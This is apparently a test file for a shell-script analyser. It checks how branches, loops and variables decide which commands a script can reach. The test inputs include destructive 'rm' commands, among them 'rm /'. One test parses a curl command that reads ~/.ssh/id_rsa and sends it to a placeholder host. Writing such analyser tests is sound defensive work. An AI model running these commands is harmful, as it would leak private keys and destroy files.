import assert from 'node:assert/strict';
import { filledIn } from '../../src/model/command.ts';
import { commands, placed, read } from './helper.ts';

function reached(text: string): readonly string[] {
  return read(text).commands.map((command) => `${command.program} ${command.reached}`);
}

describe('shell branches', () => {
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['if a; then rm x; elif b; then rm y; else rm z; fi', ['a', 'b', 'rm x', 'rm y', 'rm z']],
    ['a && b || c', ['a', 'b', 'c']],
    ['a & b', ['a', 'b']],
    ['case $x in a) rm a;; b|c) rm b;; *) rm c;; esac', ['rm a', 'rm b', 'rm c']],
    ['case b in a) rm a;; b) rm b;; *) rm c;; esac', ['rm b']],
    ['case b in a) rm a;; b) rm b;& c) rm c;; esac', ['rm b', 'rm c']],
    ['case "$(rm x)" in $(rm y)) rm z;; esac', ['rm x', 'rm y', 'rm z']],
    ['if [ a = b ]; then rm x; else rm y; fi', ['[ a = b ]', 'rm y']],
    ['if [[ a == a* ]]; then rm x; else rm y; fi', ['rm x']],
    ['if [ "$1" = a ]; then rm x; else rm y; fi', ['[ ? = a ]', 'rm x', 'rm y']],
    ['if [ "${E:-dev}" = prod ]; then rm x; fi', ['[ dev = prod ]', 'rm x']],
    ['if [ -z "$(rm x)" ]; then rm y; else rm z; fi', ['rm x', "[ -z '' ]", 'rm y', 'rm z']],
    ['[[ $(rm x) ]] && (( $(rm y) ))', ['rm x', 'rm y']],
    ['[[ -f $(rm x) || a == $(rm y) ]]', ['rm x', 'rm y']],
    ['exit; rm x', ['exit']],
    ['a || exit; rm x', ['a', 'exit', 'rm x']],
    ['(exit); rm x', ['exit', 'rm x']],
    ['if a; then exit; fi; rm x', ['a', 'exit', 'rm x']],
    ['if a; then exit; else exit; fi; rm x', ['a', 'exit', 'exit']],
    ['return; rm x', ['return', 'rm x']],
    ['break; rm x', ['break', 'rm x']],
    ['if a; then D=/; else D=/tmp/y; fi; rm $D', ['a', 'rm /', 'rm /tmp/y']],
    ['D=/; if a; then D=/tmp; fi; rm $D', ['a', 'rm /tmp', 'rm /']],
    ['if a; then H=p; D=x; else H=q; D=y; fi; rm $H $D', ['a', 'rm p x', 'rm q y']],
    ['case $x in p) E=1;; *) E=2;; esac; rm $E', ['rm 1', 'rm 2']],
    ['a || D=/; rm "$D"', ['a', 'rm ?', 'rm /']],
    ['if a; then f() { rm x; }; else f() { rm y; }; fi; f', ['a', 'rm x', 'rm y']],
    ['{ a; b; }', ['a', 'b']],
    ['(a; b)', ['a', 'b']],
    ['coproc rm x', ['rm x']],
    ['coproc N { rm x; }', ['rm x']],
  ];
  for (const [text, expected] of cases) {
    it(JSON.stringify(text), () => {
      assert.deepEqual(commands(text), expected);
    });
  }

  it('says what may not be reached', () => {
    assert.deepEqual(reached('a && b || c; if d; then e; fi; for x in 1 2; do f $x; done; [ -d y ] && g'), [
      'a always', 'b always', 'c branch', 'd always', 'e branch', 'f loop', 'f loop', '[ always', 'g branch',
    ]);
  });

  it('keeps a branch in a loop a branch', () => {
    assert.deepEqual(reached('while a; do if b; then c; fi; done'), ['a loop', 'b loop', 'c branch']);
    assert.deepEqual(reached('if a; then for x in 1; do b; done; fi'), ['a always', 'b branch']);
  });
});

describe('shell loops', () => {
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['for i in a b; do rm $i; done', ['rm a', 'rm b']],
    ['for i in a b; do rm x; done', ['rm x']],
    ['for i in {1..3}; do rm $i; done', ['rm 1', 'rm 2', 'rm 3']],
    ['for i in $(seq 1 2); do rm $i; done', ['seq 1 2', 'rm 1', 'rm 2']],
    ['L="a b"; for i in $L; do rm $i; done', ['rm a', 'rm b']],
    ['for f in *.log; do rm "$f"; done', ['rm *.log']],
    ['for f in $(ls); do rm "$f"; done', ['ls', 'rm *']],
    ['set -- a b; for x; do rm $x; done', ['set -- a b', 'rm a', 'rm b']],
    ['for i in a b; do rm $i; done; rm $i', ['rm a', 'rm b', 'rm b']],
    ['for i in a b; do for j in 1 2; do rm $i$j; done; done', ['rm a1', 'rm a2', 'rm b1', 'rm b2']],
    ['for ((i=0;i<3;i++)); do rm $i; done', ['rm 0', 'rm 1', 'rm 2']],
    ['select x in a b; do rm $x; done', ['rm a', 'rm b']],
    ['for i in a b; do break; rm $i; done', ['break']],
    ['for i in a b; do if c; then break; fi; rm $i; done', ['c', 'break', 'rm a', 'c', 'break', 'rm b']],
    ['for i in a b; do continue; rm $i; done; rm z', ['continue', 'continue', 'rm z']],
    ['printf "a\\nb\\n" | while read x; do rm $x; done', ['printf a\\nb\\n', 'read x', 'rm a', 'read x', 'rm b', 'read x']],
    ['while read a b; do rm $b; done <<< "x y"', ['read a b', 'rm y', 'read a b']],
    ['while IFS=: read a b; do rm $b; done <<E\nx:y\nE', ['read a b', 'rm y', 'read a b']],
    ['until a; do rm x; done', ['a', 'rm x']],
    ['i=0; while a; do rm f$i; i=$((i+1)); done', ['a', 'rm f0', 'rm f?']],
  ];
  for (const [text, expected] of cases) {
    it(JSON.stringify(text), () => {
      assert.deepEqual(commands(text), expected);
    });
  }

  it('says of a word with several unknown parts where each comes from', () => {
    const last = read('curl "https://x.example/$T?k=$(cat ~/.ssh/id_rsa)"').commands.at(-1);
    assert.equal(last?.args[0]?.source, '$T\n$(cat ~/.ssh/id_rsa)');
    assert.equal(filledIn(last?.args[0]?.text ?? '', last?.args[0]?.source), 'https://x.example/$T?k=$(cat ~/.ssh/id_rsa)');
  });

  it('says where the lines come from that it cannot know', () => {
    const last = read('find . -printf "%f" | while read -r f; do rm "$f"; done').commands.at(-1);
    assert.equal(last?.args[0]?.source, 'a line of find . -printf "%f"');
    const other = read('while read f; do rm $f; done < list').commands.at(-1);
    assert.equal(other?.args[0]?.source, 'a line of list');
  });

  it('runs a long list for its first values and once for the rest', () => {
    const all = commands('for i in {1..80}; do rm $i; done');
    assert.equal(all.length, 51);
    assert.equal(all[0], 'rm 1');
    assert.equal(all[50], 'rm ?');
  });

  it('does not multiply nested loops', () => {
    const reading = read('for a in {1..50}; do for b in {1..50}; do for c in {1..50}; do echo $a $b $c; done; done; done');
    assert.deepEqual(reading.problems, []);
    assert.ok(reading.commands.length < 1500);
  });

  it('does not trust a folder that a loop changes', () => {
    assert.deepEqual(placed('while a; do cd b; done; rm x'), ['/w: a', '/w: cd b', '? a folder that a loop changes: a', '? a folder that a loop changes: cd b', '? a folder that a loop changes: rm x', '/w: rm x']);
  });
});
